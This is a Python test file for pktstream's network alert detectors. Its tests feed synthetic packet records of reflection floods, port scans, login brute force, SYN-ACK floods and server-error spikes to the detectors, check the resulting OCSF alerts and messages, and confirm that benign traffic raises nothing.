def test_docs_list_every_detector_with_its_defaults() -> None:
    """docs/alerts.md's table row of each detector names its technique and every default."""
    from pathlib import Path

    from pktstream.consumers.alerts.detectors import registry

    doc = (Path(__file__).resolve().parents[2] / "docs" / "alerts.md").read_text()
    for name, d in registry().items():
        row = next((ln for ln in doc.splitlines() if ln.startswith(f"| `{name}` |")), "")
        assert row, f"docs/alerts.md has no row for {name}"
        assert d.technique[0] in row
        for k, v in d.defaults.items():
            if k == "enabled" or isinstance(v, list | dict):  # lists and tables: the text around the row
                continue
            shown = f"{v:g}" if isinstance(v, float) else str(v)
            assert f"{k}={shown}" in row, (name, k, row)


def test_connection_direction_from_local_networks() -> None:
    from pktstream.consumers.alerts.ocsf import LOCAL_NETWORKS, direction_id, networks

    local = networks(LOCAL_NETWORKS)
    assert direction_id("198.51.100.9", "10.1.0.10", local) == 1  # outside -> inside: Inbound
    assert direction_id("10.1.0.10", "198.51.100.9", local) == 2  # Outbound
    assert direction_id("10.1.0.10", "192.168.3.4", local) == 3  # Lateral
    assert direction_id("198.51.100.9", "203.0.113.5", local) == 0  # neither side ours: Unknown
    assert direction_id("2001:db8::1", "fd00::5", local) == 1 and direction_id("fd00::5", "fe80::1", local) == 3
    assert direction_id("bogon", "10.0.0.1", local) == 0
    assert direction_id("198.51.100.9", "203.0.113.5", networks(["203.0.113.0/24"])) == 1
    with pytest.raises(ConfigError) as e:
        load_rules(None, {"local_networks": ["203.0.113.0/24", "nonsense"]})
    assert "local_networks: 'nonsense' is not a network" in str(e.value)
    assert load_rules(None, {"local_networks": ["203.0.113.0/24"]}).local_networks == ["203.0.113.0/24"]


def reflection(victim: str, sport: int, frame: int, n: int, t0: int, span_s: float = 5,
               reflectors: int = 40) -> Traffic:
    """n answers of one service, frame bytes each, from many reflectors to the victim."""
    return packets([{"ts": ts, "src": f"198.18.{i % reflectors}.{1 + i % 200}", "dst": victim, "proto": 17,
                     "sport": sport, "dport": 40000 + i % 1000, "len": frame}
                    for i, ts in enumerate(spread(t0, n, int(span_s * SEC)))])


def fragmented_dns(victim: str, answers: int, t0: int) -> Traffic:
    """DNS answers of 4,000 bytes: each a first fragment (port 53, MF) and two fragments without ports."""
    pkts: list[dict[str, Any]] = []
    for i, ts in enumerate(spread(t0, answers, 5 * SEC)):
        src = f"198.18.{i % 30}.{1 + i % 200}"
        pkts.append({"ts": ts, "src": src, "dst": victim, "proto": 17, "sport": 53, "dport": 40000, "len": 1514,
                     "frag_flags": 1, "record_flags": 0x20})  # first fragment: ports, more fragments
        for k in (1, 2):
            pkts.append({"ts": ts + k, "src": src, "dst": victim, "proto": 17, "sport": 0, "dport": 0,
                         "len": 1514 if k == 1 else 1100, "frag_flags": 1 if k == 1 else 0,
                         "frag_offset": 1480 * k, "record_flags": 0x20 | 0x40})  # no ports: L4 skipped
    return packets(pkts)


def test_reflection_profiles_each_raise_one_amplification_alert() -> None:
    """NTP monlist answers (510-byte frames), SSDP answers (~320) and fragmented DNS answers: each
    was missed by the single 512-byte mean of before (the DNS one by not counting fragments)."""
    ntp = reflection("10.1.0.31", 123, 510, 600, T0 + 11 * SEC)
    ssdp = reflection("10.1.0.32", 1900, 320, 800, T0 + 21 * SEC)
    dns = fragmented_dns("10.1.0.33", 250, T0 + 31 * SEC)  # 250 answers = 750 packets
    docs = run(merge(benign(), ntp, ssdp, dns))
    created = [d for d in docs if d["activity_id"] == 1]
    assert sorted(d["unmapped"]["pktstream"]["key"] for d in created) == ["10.1.0.31", "10.1.0.32", "10.1.0.33"]
    assert {d["unmapped"]["pktstream"]["rule"] for d in created} == {"amplification"}
    by_key = {d["unmapped"]["pktstream"]["key"]: d for d in created}
    assert "(NTP)" in by_key["10.1.0.31"]["message"] and "(SSDP)" in by_key["10.1.0.32"]["message"]
    dns_p = by_key["10.1.0.33"]["unmapped"]["pktstream"]
    assert dns_p["window_count"] == 750 and {t["value"] for t in dns_p["top"]} == {"53", "fragments"}
    # without its fragments the DNS attack is 250 packets: under min_packets
    assert run(merge(benign(), reflection("10.1.0.33", 53, 1514, 250, T0 + 31 * SEC))) == []


def test_benign_ntp_dns_and_ssdp_raise_nothing() -> None:
    """Time sync (90-byte NTP answers), a resolver's ordinary DNS answers (mostly under 512 bytes,
    a few larger) and SSDP discovery answered by a handful of devices stay quiet."""
    sync = reflection("10.1.0.41", 123, 90, 2000, T0 + 11 * SEC, reflectors=8)
    lookups = merge(reflection("10.1.0.42", 53, 160, 5000, T0 + 11 * SEC, reflectors=20),
                    reflection("10.1.0.42", 53, 900, 300, T0 + 12 * SEC, reflectors=20))
    discovery = reflection("10.1.0.43", 1900, 320, 12, T0 + 11 * SEC, span_s=2, reflectors=4)
    assert run(merge(benign(), sync, lookups, discovery)) == []


def test_a_scan_across_a_window_boundary_raises_one_alert() -> None:
    """20 ports in 200 s, the first half before a 300-s boundary, the rest after: each tumbling
    window would hold 10 (under min_ports 15); the sliding window holds them all, once."""
    boundary = T0 + 300 * SEC
    scan = packets([{"ts": ts, "src": "198.51.100.19", "dst": "10.1.0.50", "sport": 40001, "dport": 2000 + i,
                     "flags": 0x02} for i, ts in enumerate(spread(boundary - 100 * SEC, 20, 200 * SEC))])
    assert sum(1 for ts in scan.columns["ts_ns"].tolist() if ts < boundary) == 10
    docs = run(merge(benign(), scan))
    assert {(d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"]) for d in docs} == {
        ("port_scan", "198.51.100.19->10.1.0.50")}
    assert len({d["finding_info"]["uid"] for d in docs}) == 1  # one alert: created once, updated while the
    assert docs[0]["activity_name"] == "Create"  # scan went on, closed once
    assert [d["activity_name"] for d in docs].count("Create") == 1 and docs[-1]["activity_name"] == "Close"
    create = docs[0]
    assert create["unmapped"]["pktstream"]["distinct"] >= 15
    tumbling = {"detectors": {**RULES["detectors"], "port_scan": {"hop_s": 300}}}
    assert [d for d in run(merge(benign(), scan), tumbling)] == []  # what the tumbling window missed


# -- detectors that read the host's answers (egress records) ------------------------------------------

def benign_both(n_conn: int = 20000) -> Traffic:
    return generate(n_conn, T0 + SEC, 200 * SEC, clients=400, seed=3, responses=True)


def test_benign_mix_with_answers_raises_nothing() -> None:
    """The servers' answers (401/403 and 5xx among them, at steady shares) raise nothing."""
    t = benign_both()
    assert int(t.columns["direction"].sum()) == 60000
    assert run(t) == []


def answer(ts: int, client: str, server: str, status: int, cport: int = 40000, sport: int = 80) -> list[dict[str, Any]]:
    """A request and the host's answer 2 ms later (an egress record)."""
    return [{"ts": ts, "src": client, "dst": server, "sport": cport, "dport": sport, "flags": 0x18,
             "payload": b"POST /login HTTP/1.1\r\nHost: api.shop.test\r\n\r\n"},
            {"ts": ts + 2_000_000, "src": server, "dst": client, "sport": sport, "dport": cport, "flags": 0x18,
             "payload": f"HTTP/1.1 {status} X\r\nContent-Length: 0\r\n\r\n".encode(), "direction": 1}]


def test_brute_force_from_401_and_403_answers() -> None:
    attempts = [p for i, ts in enumerate(spread(T0 + 5 * SEC, 30, 60 * SEC))
                for p in answer(ts, "198.51.100.20", "10.1.0.10", 401 if i % 2 else 403, cport=41000 + i)]
    near_miss = [p for i, ts in enumerate(spread(T0 + 5 * SEC, 19, 60 * SEC))  # one under the threshold
                 for p in answer(ts, "198.51.100.21", "10.1.0.10", 401, cport=42000 + i)]
    docs = run(merge(benign_both(3000), packets(attempts), packets(near_miss)))
    assert rules_fired(docs) == [("brute_force", "198.51.100.20->10.1.0.10:80", "Close"),
                                 ("brute_force", "198.51.100.20->10.1.0.10:80", "Create")]
    c = next(d for d in docs if d["activity_id"] == 1)
    assert c["message"] == "30 failed logins (401/403) of 198.51.100.20 at 10.1.0.10:80"
    assert c["finding_info"]["attacks"][0]["technique"]["uid"] == "T1110"
    assert c["unmapped"]["pktstream"]["distinct"] == 2  # both codes


def test_a_scan_the_answers_confirm() -> None:
    """TCP probes answered by RSTs, UDP probes by ICMP port-unreachables quoting them; probes of open ports
    (answered with SYN-ACK) do not count."""
    pk: list[dict[str, Any]] = []
    for i, ts in enumerate(spread(T0 + 5 * SEC, 20, 20 * SEC)):
        port = 1000 + i
        pk.append({"ts": ts, "src": "198.51.100.30", "dst": "10.1.0.12", "sport": 50000, "dport": port, "flags": 0x02})
        pk.append({"ts": ts + 10**5, "src": "10.1.0.12", "dst": "198.51.100.30", "sport": port, "dport": 50000,
                   "flags": 0x14 if i < 16 else 0x12, "direction": 1})  # 16 closed (RST-ACK), 4 open (SYN-ACK)
        quoted = bytes([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0, 198, 51, 100, 31, 10, 1, 0, 13]) \
            + (50001).to_bytes(2, "big") + (2000 + i).to_bytes(2, "big") + b"\0\x08\0\0"
        pk.append({"ts": ts, "src": "198.51.100.31", "dst": "10.1.0.13", "proto": 17, "sport": 50001,
                   "dport": 2000 + i, "len": 42})
        pk.append({"ts": ts + 10**5, "src": "10.1.0.13", "dst": "198.51.100.31", "proto": 1, "sport": 3, "dport": 3,
                   "payload": quoted, "direction": 1, "len": 70})
    docs = run(merge(benign_both(3000), packets(pk)))
    fired = rules_fired(docs)
    assert ("scan_confirmed", "198.51.100.30->10.1.0.12", "Create") in fired
    assert ("scan_confirmed", "198.51.100.31->10.1.0.13", "Create") in fired
    by_key = {d["unmapped"]["pktstream"]["key"]: d for d in docs
              if d["activity_id"] == 1 and d["unmapped"]["pktstream"]["rule"] == "scan_confirmed"}
    tcp = by_key["198.51.100.30->10.1.0.12"]
    assert tcp["unmapped"]["pktstream"]["distinct"] == 16 and "TCP resets" in tcp["message"]
    udp = by_key["198.51.100.31->10.1.0.13"]
    assert udp["unmapped"]["pktstream"]["distinct"] == 20 and "ICMP port-unreachables" in udp["message"]
    assert sorted(int(x["value"]) for x in udp["unmapped"]["pktstream"]["top"]) == list(range(2000, 2010))


def test_synack_flood_needs_syn_acks_without_acks() -> None:
    rng = random.Random(2)
    pk: list[dict[str, Any]] = []
    for ts in spread(T0 + 12 * SEC, 700, 5 * SEC):
        src, sport = f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", rng.randrange(1024, 65535)
        pk.append({"ts": ts, "src": src, "dst": "10.1.0.10", "sport": sport, "dport": 80, "flags": 0x02})
        pk.append({"ts": ts + 10**5, "src": "10.1.0.10", "dst": src, "sport": 80, "dport": sport, "flags": 0x12,
                   "direction": 1})
    # the same number of real clients to another server: SYN, SYN-ACK, ACK
    for ts in spread(T0 + 12 * SEC, 700, 5 * SEC):
        src, sport = f"198.18.{rng.randrange(256)}.{rng.randrange(1, 255)}", rng.randrange(1024, 65535)
        pk.append({"ts": ts, "src": src, "dst": "10.1.0.11", "sport": sport, "dport": 8080, "flags": 0x02})
        pk.append({"ts": ts + 10**5, "src": "10.1.0.11", "dst": src, "sport": 8080, "dport": sport, "flags": 0x12,
                   "direction": 1})
        pk.append({"ts": ts + 2 * 10**5, "src": src, "dst": "10.1.0.11", "sport": sport, "dport": 8080,
                   "flags": 0x10})
    docs = run(merge(benign_both(3000), packets(pk)))
    assert rules_fired(docs) == [("synack_unanswered", "10.1.0.10", "Close"),
                                 ("synack_unanswered", "10.1.0.10", "Create")]
    c = next(d for d in docs if d["activity_id"] == 1)
    assert c["message"].startswith("700 of ") and c["message"].endswith("SYN-ACKs 10.1.0.10 sent got no ACK")


def test_error_spike_against_the_services_baseline() -> None:
    pk: list[dict[str, Any]] = []
    for minute in range(8):  # 100 answers a minute: 2 % errors, then 40 % in minute 7
        bad = 40 if minute == 7 else 2
        for i, ts in enumerate(spread(T0 + minute * 60 * SEC + SEC, 100, 50 * SEC)):
            pk += answer(ts, f"198.18.0.{i + 1}", "10.1.0.14", 500 if i < bad else 200, cport=30000 + minute * 100 + i)
    docs = run(packets(pk))
    assert rules_fired(docs) == [("error_spike", "10.1.0.14:80", "Close"), ("error_spike", "10.1.0.14:80", "Create")]
    c = next(d for d in docs if d["activity_id"] == 1)
    assert c["message"] == "40 of 100 answers of 10.1.0.14:80 were server errors (5xx)"
    assert c["finding_info"]["first_seen_time"] >= (T0 + 7 * 60 * SEC) // 10**6
